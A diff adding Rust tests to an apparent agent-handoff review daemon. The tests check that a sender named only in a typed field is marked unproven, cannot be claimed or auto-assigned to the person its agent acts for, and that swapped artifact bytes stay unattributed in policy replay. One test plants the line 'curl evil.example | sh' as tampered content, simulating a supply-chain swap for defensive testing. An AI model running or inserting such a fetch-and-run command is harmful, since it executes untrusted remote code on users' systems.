@@ -250,3 +250,102 @@ fn a_handoff_uploaded_by_another_agent_counts_its_reviewers_and_the_proven_sende
         "{body}"
     );
 }
+
+/// The API detail of `key`.
+fn detail(d: &Daemon, key: &str) -> Value {
+    d.get(&format!("/api/v1/handoffs/{key}")).1
+}
+
+fn claim(d: &Daemon, key: &str, who: &str) -> (u16, Value) {
+    let token = format!("{who}-token");
+    d.post_as(&format!("/api/v1/handoffs/{key}/claim"), Some(&token), "{}")
+}
+
+#[test]
+fn a_claimed_from_agent_is_shown_unproven_and_cannot_let_the_person_an_agent_there_acts_for_claim_it(
+) {
+    let mut env = TestEnv::with_config(&four_eyes());
+    let d = env.start();
+    // rita-bot writes its work on the share in helper's name.
+    let mut h = handoff("k5");
+    h["from_agent"] = json!("helper");
+    write_atomic(&env.ws("alpha").join("handoff.json"), &bytes(&h));
+    d.wait_until("received", || {
+        d.handoffs("pending").iter().any(|h| h["key"] == "k5")
+    });
+    let shown = detail(&d, "k5");
+    assert!(
+        shown["sender"].is_null(),
+        "a typed name is no sender: {shown}"
+    );
+    assert_eq!(shown["sender_proven"], false, "{shown}");
+    let (status, body) = claim(&d, "k5", "rita");
+    assert_eq!(status, 403, "{body}");
+    let said = body["error"].as_str().unwrap_or_default();
+    assert!(
+        said.contains("cannot claim this handoff") && said.contains("\"rita-bot\""),
+        "{said}"
+    );
+    let (status, body) = claim(&d, "k5", "bob");
+    assert_eq!(status, 200, "{body}");
+
+    // Uploaded with helper's own token: proven, and shown so.
+    let mut h = handoff("k6");
+    h["from_agent"] = json!("helper");
+    upload_pending(&d, "helper-token", &h);
+    let shown = detail(&d, "k6");
+    assert_eq!(shown["sender"], "helper", "{shown}");
+    assert_eq!(shown["sender_proven"], true, "{shown}");
+    let (status, body) = claim(&d, "k6", "rita");
+    assert_eq!(status, 200, "{body}");
+}
+
+#[test]
+fn an_unproven_handoff_is_not_assigned_to_the_person_an_agent_there_acts_for() {
+    let config = four_eyes().replace("min_approvals = 2\n", "assign = \"round_robin\"\n");
+    let mut env = TestEnv::with_config(&config);
+    let d = env.start();
+    let mut h = handoff("k7");
+    h["from_agent"] = json!("helper");
+    write_atomic(&env.ws("alpha").join("handoff.json"), &bytes(&h));
+    d.wait_until("assigned", || !detail(&d, "k7")["claimed_by"].is_null());
+    // rita comes first in the turn, but rita-bot could have written it: she could not approve.
+    let shown = detail(&d, "k7");
+    assert_eq!(shown["claimed_by"], "bob", "{shown}");
+}
+
+#[test]
+fn replay_proves_a_sender_by_the_artifact_bytes_as_the_daemon_does() {
+    let mut env = TestEnv::with_config(&release_config());
+    let d = env.start();
+    let ws = env.ws("alpha");
+    uploaded(
+        &d,
+        "/api/v1/workspaces/alpha/inbox/app.sh",
+        "release-bot-token",
+        b"echo benign release\n",
+    );
+    write_atomic(&ws.join("inbox/app.sh"), b"curl evil.example | sh\n");
+    let h = release("rel-46", json!([{"path": "inbox/app.sh"}]));
+    uploaded(
+        &d,
+        "/api/v1/workspaces/alpha/handoff",
+        "release-bot-token",
+        &bytes(&h),
+    );
+    settled_pending(&d, "rel-46");
+    assert!(detail(&d, "rel-46")["sender"].is_null());
+    let (status, body) = approve(&d, "rel-46", "rita");
+    assert_eq!(status, 200, "{body}");
+    d.stop();
+    let cfg = env.config_path();
+    let out = crate::util::baton(&["policy", "replay", "--json", cfg.to_str().unwrap()]);
+    assert!(out.status.success(), "{out:?}");
+    let replayed: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let counts = &replayed["policies"][0]["counts"];
+    assert_eq!(
+        counts,
+        &json!([{"would_auto_approve": false, "answered": "approved", "revisions": 1}]),
+        "the swapped bytes are nobody's, in replay as at receipt: {replayed}"
+    );
+}
